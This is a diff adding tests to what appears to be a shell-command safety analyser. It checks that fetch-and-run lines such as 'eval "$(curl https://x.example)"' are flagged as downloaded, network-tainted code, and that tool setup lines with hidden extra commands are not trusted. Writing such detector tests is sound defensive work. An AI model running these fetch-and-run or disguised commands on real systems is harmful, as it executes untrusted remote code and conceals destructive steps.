@@ -138,3 +138,60 @@ def test_spans_of_nested_text_are_the_place_in_the_outer_text() -> None:
     for effect in read(text).effects:
         if effect.span is not None:
             assert text[slice(*effect.span)].startswith("bash -c")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'eval "$(curl https://x.example)"',
+        "$(curl https://x.example) a",
+        "curl https://x.example > a.sh; . ./a.sh",
+        "source <(curl https://x.example)",
+    ],
+)
+def test_an_opaque_that_runs_a_download_says_so(text: str) -> None:
+    (effect, *_) = opaques(read(text))
+    assert "network" in effect.taint
+    assert "downloaded" in effect.resource.labels
+
+
+def test_code_downloaded_to_a_file_and_run_is_downloaded_code() -> None:
+    (effect,) = opaques(read("curl https://x.example > /tmp/a.sh; bash /tmp/a.sh"))
+    assert "downloaded" in effect.resource.labels
+    assert effect.taint == ("network",)
+
+
+def test_a_scratch_directory_is_known_by_its_beginning() -> None:
+    inv = invocations('t=$(mktemp -d); rm -rf "$t/x"')[-1]
+    assert (inv.words[2].text, inv.words[2].prefix) == (None, "/tmp/tmp.")
+    inv = invocations('t=$(mktemp /var/x.XXXXXX); rm -rf "$t"')[-1]
+    assert inv.words[2].prefix == "/var/x."
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'eval "$(ssh-agent -s)"',
+        'eval "$(pyenv init -)"',
+        ". ~/.cargo/env",
+        'source "$HOME/.nvm/nvm.sh"',
+        ". .venv/bin/activate",
+    ],
+)
+def test_the_set_up_of_a_tool_is_run_and_named(text: str) -> None:
+    effect = only(read(text), Verb.EXECUTE)
+    assert not opaques(read(text))
+    assert "unread" not in effect.resource.labels
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'eval "$(ssh-agent -s; rm x)"',
+        'pyenv() { cat x; }; eval "$(pyenv init -)"',
+        "echo rm x > ~/.cargo/env; . ~/.cargo/env; . /tmp/env",
+        'eval "$(pyenv init - ; q)"',
+    ],
+)
+def test_only_exactly_the_set_up_of_a_tool_is_taken_for_it(text: str) -> None:
+    assert opaques(read(text))
